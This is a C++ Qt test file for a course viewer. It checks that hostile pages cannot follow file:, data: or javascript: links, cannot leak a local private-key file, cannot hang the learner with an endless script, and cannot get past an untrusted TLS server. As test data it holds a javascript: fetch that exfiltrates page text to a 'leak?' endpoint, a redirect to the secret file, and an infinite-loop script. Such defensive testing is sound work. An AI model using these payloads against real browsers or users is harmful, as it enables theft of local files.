// Course pages are not trusted: a page (or anyone who changes it on its way over plain http) hands the
// viewer addresses through its links, may run a script that never ends, or comes from a server whose
// certificate is not trusted. Whatever the page does, no local file's content reaches the network, the
// toolbar never follows an address of another kind than the course's own, and the learner can go on.
#include "viewerharness.h"

#include <QDateTime>
#include <QFile>
#include <QPushButton>
#include <QTemporaryDir>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <functional>
#include <history/frmhist.h>
#include <memory>
#include <support/captureserver.h>

using torvane::secondcopy::Role;
using torvane::shell::frmTRV;
using torvane::testing::CaptureServer;
using torvane::testing::completedPages;
using torvane::testing::CourseServer;
using torvane::testing::toolbarButton;
using torvane::testing::ViewerHarness;

namespace {

constexpr int kWait = 10000; // the learner is never held longer than this

bool writeFile(const QString& path, const QByteArray& bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size();
}

// A course page whose links 0 to 5 are `links` (missing ones are harmless pages) and that runs `script`.
QByteArray page(const QStringList& links, const QByteArray& script = {}) {
    QByteArray html = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Page</title></head><body>";
    const QStringList harmless{"trvc.trv",     "tr010002.trv", "tr010004.trv",
                               "tr010005.trv", "tr010006.trv", "tr010007.trv"};
    for (int i = 0; i < 6; ++i) {
        const QString href = i < links.size() && !links[i].isEmpty() ? links[i] : harmless[i];
        html += "<a href=\"" + href.toHtmlEscaped().toUtf8() + "\">link " + QByteArray::number(i) + "</a> ";
    }
    if (!script.isEmpty()) {
        html += "<script>" + script + "</script>";
    }
    return html + "</body></html>";
}

} // namespace

class TestHostile final : public QObject {
    Q_OBJECT
private slots:
    void init();
    void cleanup();

    void linksOfOtherKindsAreNeverFollowed_data();
    void linksOfOtherKindsAreNeverFollowed();
    void pageThatNeverStopsCannotTrapTheLearner();
    void untrustedCourseServerIsNamed();

private:
    frmTRV& start(const QString& courseUrl);
    // Runs `command` and waits until a document has completed; false when none did in time.
    bool completes(const std::function<void()>& command);

    std::unique_ptr<QTemporaryDir> courseDir;
    QString coursePath; // a copy of the demo course, for each test its own
    QString secret;     // a file of the learner's own that no page may read
    QByteArray content; // what it holds
    std::unique_ptr<CaptureServer> server;
    std::unique_ptr<ViewerHarness> h;
};

void TestHostile::init() {
    courseDir = std::make_unique<QTemporaryDir>();
    coursePath = courseDir->path();
    QVERIFY(torvane::testing::copyFolder(torvane::testing::demoCourseRoot(), coursePath));
    h = std::make_unique<ViewerHarness>();
    secret = h->home.path() + QStringLiteral("/private-key.txt");
    content = "SECRET-" + QByteArray::number(QDateTime::currentMSecsSinceEpoch());
    QVERIFY(writeFile(secret, content));
    QVERIFY(QFile::setPermissions(secret, QFileDevice::ReadOwner | QFileDevice::WriteOwner));
    server = std::make_unique<CaptureServer>(coursePath);
    QVERIFY(server->start());
}

void TestHostile::cleanup() {
    h.reset();
    server.reset();
    courseDir.reset();
}

frmTRV& TestHostile::start(const QString& courseUrl) {
    h->env[QStringLiteral("TORVANE_COURSE_URL")] = courseUrl;
    h->make();
    return h->showFirstCopy();
}

bool TestHostile::completes(const std::function<void()>& command) {
    QSignalSpy spy(h->viewer.get(), &frmTRV::documentCompleted);
    command();
    return QTest::qWaitFor([&] { return !spy.isEmpty(); }, kWait);
}

void TestHostile::linksOfOtherKindsAreNeverFollowed_data() {
    QTest::addColumn<QStringList>("links"); // of the page "hostile.trv"
    QTest::addColumn<QStringList>("keys");  // pressed on it, one after the other
    const QString file = QStringLiteral("file://%1");
    // Sends what the page shows (a local file, were the viewer on one) to the course server.
    const QString exfiltrate =
        QStringLiteral("javascript:fetch('%1leak?'+encodeURIComponent(document.documentElement.innerText))");

    QTest::newRow("file: as Section, javascript: as >>")
        << QStringList{file, {}, exfiltrate} << QStringList{"Alt+N", "PgDown"};
    QTest::newRow("javascript: as <<") << QStringList{{}, exfiltrate} << QStringList{"PgUp"};
    QTest::newRow("data: as >>") << QStringList{{}, {}, "data:text/html,<script>fetch('/x')</script>"}
                                 << QStringList{"Alt+."};
    QTest::newRow("blob:, ftp: and chrome: as all three")
        << QStringList{"blob:http://127.0.0.1/1", "ftp://127.0.0.1/x", "chrome://settings"}
        << QStringList{"Alt+N", "Alt+,", "PgDown"};
    QTest::newRow("javascript: as link 5 of the second contents page")
        << QStringList{{}, {}, {}, {}, {}, exfiltrate} << QStringList{"link 5"};
    QTest::newRow("a redirect to file:") << QStringList{{}, {}, "away.trv"} << QStringList{"PgDown"};
}

void TestHostile::linksOfOtherKindsAreNeverFollowed() {
    QFETCH(QStringList, links);
    QFETCH(QStringList, keys);
    for (QString& link : links) {
        if (link.contains(QLatin1String("%1"))) {
            link = link.arg(link.startsWith(QLatin1String("file")) ? secret : server->courseUrl());
        }
    }
    const bool secondContents = keys == QStringList{QStringLiteral("link 5")};
    const QString name = secondContents ? QStringLiteral("trvcrc.trv") : QStringLiteral("hostile.trv");
    QVERIFY(writeFile(coursePath + QLatin1Char('/') + name, page(links)));
    server->redirect(QStringLiteral("away.trv"), "file://" + QFile::encodeName(secret));

    frmTRV& w = start(server->courseUrl());
    QVERIFY(h->go(QStringLiteral("tr010003.trv"), QStringLiteral("tr010003.trv")));
    QVERIFY(h->go(name, name));
    QSignalSpy seen(&w, &frmTRV::documentCompleted);
    for (const QString& key : keys) {
        QVERIFY2(completes([&] {
                     if (key == QLatin1String("link 5")) {
                         // What a click on it does, once the viewer has rewritten it.
                         w.runInPage(QStringLiteral("document.links[5].click()"));
                     } else {
                         // Keys go where the learner's keys go: to the widget with the focus.
                         QWidget* focus = QApplication::focusWidget();
                         QTest::keySequence(focus != nullptr && focus->window() == &w ? focus : &w,
                                            QKeySequence(key));
                     }
                 }),
                 qPrintable(key + QStringLiteral(" led nowhere")));
    }
    QTest::qWait(1000); // time for anything a script sent to arrive
    for (const QList<QVariant>& args : seen) {
        const QString address = args.at(0).value<torvane::router::DocumentSnapshot>().locationUrl;
        QVERIFY2(!address.startsWith(QLatin1String("file:")) && !address.startsWith(QLatin1String("data:")),
                 qPrintable(address));
    }
    QVERIFY2(!server->received().contains(content), "a local file's content reached the server");
    QVERIFY(!server->received().contains("leak?"));

    // The learner goes on.
    QVERIFY(completes([&] { toolbarButton(w, 0)->click(); }));
    QTRY_VERIFY_WITH_TIMEOUT(w.state().CurPage.startsWith(QLatin1String("trvc")), kWait);
}

// A page whose script never returns holds its renderer; >>, Contents and History still work within a
// few seconds, and the page is recorded once for each time it was reached.
void TestHostile::pageThatNeverStopsCannotTrapTheLearner() {
    QVERIFY(writeFile(coursePath + QStringLiteral("/hang.trv"),
                      page({}, "setTimeout(function () { while (true) {} }, 1000);")));
    CourseServer nginx(coursePath);
    QVERIFY(nginx.start());
    frmTRV& w = start(nginx.courseUrl());
    const auto reachHungPage = [&] {
        QVERIFY(h->go(QStringLiteral("hang.trv"), QStringLiteral("hang.trv")));
        QTest::qWait(1500); // its script has started
    };
    const auto within = [&](const std::function<void()>& command, const QString& completing) {
        QSignalSpy spy(&w, &frmTRV::documentCompleted);
        command();
        return QTest::qWaitFor([&] { return completedPages(spy).contains(completing); }, kWait);
    };

    reachHungPage();
    QVERIFY2(within([&] { w.cmdNext_Click(); }, QStringLiteral("tr010004.trv")), ">> was held");
    reachHungPage();
    QVERIFY2(within([&] { w.cmdCont_Click(); }, QStringLiteral("trvc.trv")), "Contents was held");
    reachHungPage();
    QVERIFY2(within([&] { w.cmdHist_Click(); }, QStringLiteral("hist.trv")), "History was held");
    QTRY_VERIFY(w.historyWindow().isVisible());

    const QByteArray history = h->history();
    QCOMPARE(history.count("\"hang.trv\"\r\n"), 3);
}

// An https course whose server's certificate is not trusted: the learner is told which server and why,
// is offered no way past it, and keeps the toolbar.
void TestHostile::untrustedCourseServerIsNamed() {
    CourseServer https(coursePath);
    QVERIFY2(https.useUntrustedTls(), qPrintable(https.error()));
    QVERIFY2(https.start(), qPrintable(https.error()));
    h->env[QStringLiteral("TORVANE_COURSE_URL")] = https.courseUrl();
    frmTRV& w = h->make();
    QCOMPARE(h->load(), Role::FirstCopy);
    w.showMaximized();
    QTRY_VERIFY_WITH_TIMEOUT(!w.lastDocument().locationUrl.isEmpty(), kWait);
    QString text;
    int links = -1;
    w.runInPage(QStringLiteral("[document.body.innerText, document.links.length, document.forms.length]"),
                [&](const QVariant& v) {
                    text = v.toList().value(0).toString();
                    links = v.toList().value(1).toInt() + v.toList().value(2).toInt();
                });
    QTRY_VERIFY(links >= 0);
    QVERIFY2(text.contains(QStringLiteral("127.0.0.1")) && text.contains(QStringLiteral("not trusted")),
             qPrintable(text));
    QCOMPARE(links, 0);
    QVERIFY(w.isVisible());
    QCOMPARE(h->history(), QByteArray());
    // The toolbar still works (and meets the same refusal).
    QVERIFY(completes([&] { toolbarButton(w, 0)->click(); }));
    QCOMPARE(h->history(), QByteArray());
}

TORVANE_GUI_TEST_MAIN(TestHostile)
#include "tst_hostile.moc"
